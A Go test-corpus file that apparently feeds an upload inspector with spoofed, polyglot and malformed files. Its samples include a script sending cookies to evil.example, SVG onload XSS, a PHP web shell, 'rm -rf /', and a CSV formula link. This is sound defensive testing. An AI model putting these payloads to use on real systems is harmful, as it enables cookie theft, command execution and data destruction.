package inspecttest

import (
	"bytes"
	"cmp"
	"slices"
)

// Sample is a file as a stranger sends it, and what must become of it.
type Sample struct {
	Name     string // of the sample: what is wrong with it
	FileName string
	Declared string // the type stated for it; "" for none
	Body     []byte
	Want     string // why it is refused, in the words of the API, or Taken
}

// Taken is what becomes of a sample that does no harm, or none any more once
// its copy is made.
const Taken = "taken"

// The reasons for which samples are refused.
const (
	unsupported   = "unsupported_type"
	mismatch      = "type_mismatch"
	tooManyPixels = "too_many_pixels"
	tooManyPages  = "too_many_pages"
	encrypted     = "encrypted"
	active        = "active_content"
	corrupt       = "corrupt"
	tooLarge      = "too_large"
)

// The types that are taken.
const (
	typePNG  = "image/png"
	typeJPEG = "image/jpeg"
	typeWebP = "image/webp"
	typePDF  = "application/pdf"
)

// Corpus is what is sent to do harm or by mistake: files of other types under
// names and types that lie, files that are two things at once, secrets in all
// the places that are not the picture, bombs, cut and broken files, papers
// that act, and good files that are odd. Names are unique, and the same
// samples come in the same order each time.
func Corpus() []Sample {
	all := slices.Concat(foreign(), lies(), polyglots(), secrets(), bombs(), broken(), papers(), odd())
	slices.SortFunc(all, func(a, b Sample) int { return cmp.Compare(a.Name, b.Name) })
	return all
}

// good is a small whole file of each type that is taken.
func good() map[string][]byte {
	return map[string][]byte{
		typePNG: PNG(Corners(24, 16)), typeJPEG: JPEG(Corners(24, 16)), typeWebP: WebP(VP8(32, 16)), typePDF: Paper(2, ""),
	}
}

func short(mediaType string) string {
	return map[string]string{typePNG: "png", typeJPEG: "jpeg", typeWebP: "webp", typePDF: "pdf"}[mediaType]
}

// foreign are files of types that are not taken, each under its own name and
// dressed up as a screenshot.
func foreign() []Sample {
	shot := PNG(Corners(16, 16))
	box := func(brand string) string {
		return "\x00\x00\x00\x18ftyp" + brand + "\x00\x00\x00\x00mif1" + brand + "\x00\x00\x00\x08mdat"
	}
	const script = "<script>fetch('//evil.example/'+document.cookie)</script>"
	var list []Sample
	for name, body := range map[string]string{
		"svg":                  `<svg xmlns="http://www.w3.org/2000/svg">` + script + `</svg>`,
		"svg with prolog":      `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>`,
		"svg after a mark":     "\xef\xbb\xbf<svg onload='alert(1)'/>",
		"svg in utf-16":        "\xff\xfe<\x00s\x00v\x00g\x00>\x00",
		"svg in a comment":     "<!-- \x89PNG --><svg onload='alert(1)'/>",
		"svg entities":         `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>`,
		"svgz":                 "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xb3\x29\x2e\x4b\xb7\xb3\xd1\x07\x92\x00",
		"html":                 "<!DOCTYPE html><html><body>" + script,
		"html fragment":        script,
		"html after spaces":    "\n\n   <html>" + script,
		"html in a comment":    "<!-- GIF89a --><html>" + script,
		"xhtml":                `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">` + script + "</html>",
		"xsl":                  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//evil.example/x"?><a/>`,
		"mhtml":                "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a\r\nContent-Type: text/html\r\n\r\n" + script,
		"mail":                 "From: a@b\r\nSubject: x\r\n\r\nhello",
		"javascript":           "alert(document.domain)",
		"css":                  "@import '//evil.example/x.css';",
		"php":                  "<?php system($_GET['c']); ?>",
		"jsp":                  "<%@ page import=\"java.io.*\" %>",
		"shell":                "#!/bin/sh\nrm -rf /\n",
		"batch":                "@echo off\r\ndel /q *\r\n",
		"json":                 `{"a":1}`,
		"csv with a formula":   "=HYPERLINK(\"//evil.example\"),1\n",
		"text":                 "hello",
		"one byte":             "\xff",
		"nul bytes":            "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
		"gif 87":               "GIF87a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
		"gif":                  "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
		"gif that moves":       "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
		"gif and script":       "GIF89a=/*\x00\x00*/alert(1)//;",
		"gif and html":         "GIF89a<html>" + script,
		"gif of 65535 squared": "GIF89a\xff\xff\xff\xff\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x00;",
		"ico with a png":       "\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00\x20\x00\x40\x00\x00\x00\x16\x00\x00\x00" + string(shot),
		"cursor":               "\x00\x00\x02\x00\x01\x00\x10\x10\x00\x00\x01\x00\x20\x00\x40\x00\x00\x00\x16\x00\x00\x00",
		"icns":                 "icns\x00\x00\x00\x10ic07\x00\x00\x00\x08",
		"bmp":                  "BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00\x01\x00\x00\x00\x01\x00\x00\x00\x01\x00\x18\x00\x00\x00\x00\x00\x04\x00\x00\x00",
		"bmp of 2^31 squared":  "BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00\xff\xff\xff\x7f\xff\xff\xff\x7f\x01\x00\x18\x00",
		"tiff":                 "II*\x00\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00",
		"tiff the other way":   "MM\x00*\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00",
		"tiff in a circle":     "II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00",
		"big tiff":             "II+\x00\x08\x00\x00\x00\x10\x00\x00\x00\x00\x00\x00\x00",
		"raw photo":            "II*\x00\x10\x00\x00\x00CR\x02\x00",
		"heic":                 box("heic"),
		"heif":                 box("mif1"),
		"avif":                 box("avif"),
		"mp4":                  "\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2",
		"mov":                  "\x00\x00\x00\x14ftypqt  \x00\x00\x02\x00qt  ",
		"webm":                 "\x1aE\xdf\xa3\x01\x00\x00\x00\x00\x00\x00\x1fB\x86\x81\x01B\x82\x84webm",
		"avi":                  "RIFF\x24\x00\x00\x00AVI LIST\x10\x00\x00\x00hdrl",
		"wav":                  "RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00",
		"mp3":                  "ID3\x03\x00\x00\x00\x00\x00\x21TIT2",
		"ogg":                  "OggS\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00",
		"flash":                "FWS\x09\x00\x01\x00\x00\x78\x00\x05\x5f",
		"jxl":                  "\xff\x0a\xfa\x1f\x01\x80",
		"jxl in a box":         "\x00\x00\x00\x0cJXL \x0d\x0a\x87\x0a\x00\x00\x00\x14ftypjxl ",
		"jpeg 2000":            "\x00\x00\x00\x0cjP  \x0d\x0a\x87\x0a\x00\x00\x00\x14ftypjp2 ",
		"jpeg 2000 stream":     "\xff\x4f\xff\x51\x00\x2f\x00\x00",
		"jpeg xr":              "II\xbc\x01\x08\x00\x00\x00",
		"photoshop":            "8BPS\x00\x01\x00\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x01\x00\x00\x00\x01\x00\x08\x00\x03",
		"djvu":                 "AT&TFORM\x00\x00\x00\x10DJVUINFO",
		"pcx":                  "\x0a\x05\x01\x08\x00\x00\x00\x00\x0f\x00\x0f\x00",
		"xpm":                  "/* XPM */\nstatic char *a[] = {\"1 1 1 1\",\"a c #fff\",\"a\"};",
		"pnm":                  "P6\n1 1\n255\n\x00\x00\x00",
		"farbfeld":             "farbfeld\x00\x00\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\xff\xff",
		"qoi":                  "qoif\x00\x00\x00\x01\x00\x00\x00\x01\x03\x00",
		"mng":                  "\x8aMNG\r\n\x1a\n\x00\x00\x00\x1cMHDR",
		"jng":                  "\x8bJNG\r\n\x1a\n\x00\x00\x00\x10JHDR",
		"zip":                  "PK\x03\x04\x14\x00\x00\x00\x00\x00",
		"empty zip":            "PK\x05\x06\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
		"word":                 "PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00word/document.xml",
		"old word":             "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00\x00",
		"rtf":                  `{\rtf1\ansi{\object\objocx}}`,
		"postscript":           "%!PS-Adobe-3.0\n(x) show\n",
		"eps with preview":     "\xc5\xd0\xd3\xc6\x1e\x00\x00\x00",
		"illustrator":          "%!PS-Adobe-3.0 EPSF-3.0\n%PDF-1.4\n",
		"rar":                  "Rar!\x1a\x07\x01\x00",
		"7z":                   "7z\xbc\xaf\x27\x1c\x00\x04",
		"gzip":                 "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
		"tar":                  "a.png\x00" + string(make([]byte, 251)) + "ustar\x0000",
		"windows program":      "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00",
		"linux program":        "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00",
		"mac program":          "\xcf\xfa\xed\xfe\x07\x00\x00\x01",
		"java class":           "\xca\xfe\xba\xbe\x00\x00\x00\x34",
		"wasm":                 "\x00asm\x01\x00\x00\x00",
		"shortcut":             "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46",
		"internet shortcut":    "[InternetShortcut]\r\nURL=file://evil.example/x\r\n",
		"sqlite":               "SQLite format 3\x00\x10\x00\x01\x01",
		"font":                 "wOFF\x00\x01\x00\x00\x00\x00\x00\x00",
		"virus test":           `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-` + `STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`,
		"pdf version 3":        "%PDF-3.0\n",
		"pdf without dot":      "%PDF-17\n",
		"half a png magic":     PNGMagic[:6],
		"half a jpeg magic":    "\xff\xd8",
		"half a webp magic":    "RIFF\x00\x00\x00\x00WEBP",
		"webp without vp8":     "RIFF\x0c\x00\x00\x00WEBPABCD\x00\x00\x00\x00",
		"png magic from unix":  "\x89PNG\n\x1a\n\x00\x00\x00\x0dIHDR",
	} {
		list = append(list,
			Sample{Name: "foreign: " + name, FileName: "x." + name, Body: []byte(body), Want: unsupported},
			Sample{Name: "foreign: " + name + ", called a screenshot", FileName: "screenshot.png", Declared: typePNG, Body: []byte(body), Want: unsupported})
	}
	return append(list, Sample{Name: "empty", FileName: "a.png", Declared: typePNG, Want: corrupt})
}

// lies are good files said to be something else.
func lies() []Sample {
	var list []Sample
	for is, body := range good() {
		for _, said := range []string{typePNG, typeJPEG, typeWebP, typePDF, "image/svg+xml", "text/html", "image/gif", "application/x-php"} {
			if said != is {
				list = append(list, Sample{Name: "lie: " + short(is) + " said to be " + said, FileName: "a", Declared: said, Body: body, Want: mismatch})
			}
		}
		list = append(list,
			Sample{Name: "lie: " + short(is) + " called a program", FileName: "invoice.exe", Body: body, Want: Taken},
			Sample{Name: "lie: " + short(is) + " called a page", FileName: "a.html", Declared: is, Body: body, Want: Taken},
			Sample{Name: "lie: " + short(is) + " with parameters", FileName: "a.svg", Declared: is + "; charset=utf-7", Body: body, Want: Taken})
	}
	return list
}

// polyglots are files that are something else as well to those who read them
// otherwise. What stands before the picture makes it another file; what
// stands behind it or between its parts is not copied.
func polyglots() []Sample {
	payloads := map[string]string{
		"zip":        "PK\x03\x04\x14\x00\x00\x00\x00\x00" + Canary + "PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00",
		"php":        "<?php echo '" + Canary + "'; ?>",
		"html":       "<html><script>alert('" + Canary + "')</script></html>",
		"javascript": "*/;alert('" + Canary + "');/*",
		"program":    "MZ\x90\x00" + Canary,
		"nothing":    Canary,
	}
	var list []Sample
	for is, body := range good() {
		for name, payload := range payloads {
			list = append(list,
				Sample{Name: "polyglot: " + short(is) + " and " + name, FileName: "a." + short(is), Declared: is, Body: append(bytes.Clone(body), payload...), Want: Taken},
				Sample{Name: "polyglot: " + name + " and " + short(is), FileName: "a." + short(is), Declared: is, Body: append([]byte(payload), body...), Want: unsupported})
		}
	}
	shot, photo := PNG(Corners(24, 16)), JPEG(Corners(24, 16))
	for name, payload := range payloads {
		p := []byte(payload)
		list = append(list,
			Sample{Name: "polyglot: " + name + " in a png's text", FileName: "a.png", Body: AfterIHDR(shot, Chunk("tEXt", append([]byte("Comment\x00"), p...))), Want: Taken},
			Sample{Name: "polyglot: " + name + " in a jpeg's comment", FileName: "a.jpg", Body: AfterSOI(photo, Segment(0xFE, p)), Want: Taken},
			Sample{Name: "polyglot: " + name + " in a webp's chunk", FileName: "a.webp", Body: WebP(VP8X(32, 16, 0), RIFFChunk("junk", p), VP8(32, 16)), Want: Taken})
	}
	return append(list,
		Sample{Name: "polyglot: a second png behind", FileName: "a.png", Body: append(bytes.Clone(shot), AfterIHDR(shot, Chunk("tEXt", []byte("a\x00"+Canary)))...), Want: Taken},
		Sample{Name: "polyglot: a second jpeg behind", FileName: "a.jpg", Body: append(bytes.Clone(photo), AfterSOI(photo, Segment(0xFE, []byte(Canary)))...), Want: Taken},
		Sample{Name: "polyglot: pdf in a jpeg's comment", FileName: "a.pdf", Body: AfterSOI(photo, Segment(0xFE, Paper(1, "/OpenAction<</S/JavaScript/JS("+Canary+")>>"))), Want: unsupported},
		Sample{Name: "polyglot: gif's first bytes as jpeg comment", FileName: "a.jpg", Body: AfterSOI(photo, Segment(0xFE, []byte("GIF89a/*"+Canary+"*/=0;alert(1)"))), Want: Taken},
		Sample{Name: "polyglot: script in a jpeg's length", FileName: "a.jpg", Body: AfterSOI(photo, Segment(0xE0, append(bytes.Repeat([]byte{0}, 0x2F2A-2), "*/='"+Canary+"';alert(1);/*"...))), Want: Taken})
}
